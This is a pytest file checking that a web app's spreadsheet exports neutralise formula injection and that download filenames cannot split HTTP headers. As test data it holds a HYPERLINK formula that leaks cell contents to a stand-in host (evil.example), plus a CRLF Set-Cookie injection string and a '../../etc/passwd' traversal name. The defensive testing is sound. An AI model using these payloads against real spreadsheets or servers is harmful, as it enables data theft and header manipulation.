"""Issue 10 items 1 and 3: no spreadsheet cell is ever a formula, and no download name breaks a header."""

from __future__ import annotations

import csv
import io
from urllib.parse import quote

import pytest
from openpyxl import load_workbook

from yorozu.common.exports import content_disposition, csv_bytes, csv_safe, xlsx_bytes

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"詳細")'
STARTS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"]


def cells(data: bytes) -> list[list[object]]:
    sheet = load_workbook(io.BytesIO(data)).active
    return [[c.value for c in row] for row in sheet.iter_rows()]


def cell_types(data: bytes) -> set[str]:
    sheet = load_workbook(io.BytesIO(data)).active
    return {c.data_type for row in sheet.iter_rows() for c in row}


@pytest.mark.parametrize("text", [EVIL, *STARTS])
def test_csv_neutralises_a_formula_in_utf8_and_cp932(text: str) -> None:
    for encoding in ("utf-8", "cp932"):
        body = csv_bytes(["件名", "件数"], [[text, 12]], encoding=encoding)
        rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig" if encoding == "utf-8" else "cp932"))))
        assert rows[1] == ["'" + text, "12"]


def test_numbers_and_plain_text_are_left_alone() -> None:
    assert csv_safe(-5) == -5 and csv_safe(1.5) == 1.5 and csv_safe("住民異動届") == "住民異動届"
    data = xlsx_bytes(["件名", "件数"], [["住民異動届", -5]])
    assert cells(data)[1] == ["住民異動届", -5]


def test_an_xlsx_export_stores_a_formula_text_as_a_string_cell() -> None:
    data = xlsx_bytes(["件名"], [[EVIL]])
    assert cells(data)[1] == [EVIL]
    assert "f" not in cell_types(data)


@pytest.mark.django_db
def test_the_consultant_export_of_a_case_titled_with_a_formula(client_as, cast) -> None:
    from yorozu.consultations.tests.factories import make_case

    make_case(cast.requester, title=EVIL)
    client = client_as(cast.consultant)
    xlsx = client.get("/consultations/export/", {"format": "xlsx"}).content
    assert "f" not in cell_types(xlsx) and EVIL in [v for row in cells(xlsx) for v in row]
    for encoding in ("utf-8", "cp932"):
        body = client.get("/consultations/export/", {"encoding": encoding}).content
        rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig" if encoding == "utf-8" else "cp932"))))
        assert "'" + EVIL in rows[1]


@pytest.mark.django_db
def test_the_worksheet_export_and_the_plan_workbook_keep_task_names_as_text(client_as, cast) -> None:
    from yorozu.worksheets import services
    from yorozu.worksheets.tests.factories import consultation, item_data

    case = consultation(department=cast.department, requester=cast.requester, title=EVIL)
    services.work_item_create(user=cast.requester, consultation=case, data=item_data(name=EVIL))
    client = client_as(cast.requester)
    for url in (
        f"/worksheets/consultations/{case.pk}/export.xlsx",
        f"/worksheets/consultations/{case.pk}/plan.xlsx",
    ):
        data = client.get(url).content
        assert "f" not in cell_types(data), url
        assert any(EVIL in str(v) for row in cells(data) for v in row), url


@pytest.mark.parametrize(
    "name", ['相談一覧_a"b.csv', "a\r\nSet-Cookie: x=1.csv", "../../etc/passwd", "検索_a;b.csv", ""]
)
def test_a_download_name_from_user_input_is_one_safe_header_value(name: str) -> None:
    value = content_disposition(name)
    assert "\r" not in value and "\n" not in value
    plain = value.split('filename="', 1)[1].split('"', 1)[0]
    assert '"' not in plain and "/" not in plain and ";" not in plain
    assert value.count('"') == 2 and "filename*=UTF-8''" in value
    assert "/" not in value.split("filename*=UTF-8''", 1)[1]


@pytest.mark.django_db
@pytest.mark.parametrize("query", ["a\r\nb", 'a"b', "=1+1"])
def test_the_public_budget_search_csv_answers_for_any_query(client, query: str) -> None:
    from yorozu.budget.demo import CODE, load_demo

    load_demo()
    response = client.get(f"/budget/{CODE}/2025/search/", {"q": query, "format": "csv"})
    csv_url = f"/budget/{CODE}/2025/search/?q={quote(query)}&format=csv"
    assert response.status_code == 200, csv_url
    assert response.get("Content-Disposition", "attachment").count('"') in (0, 2)
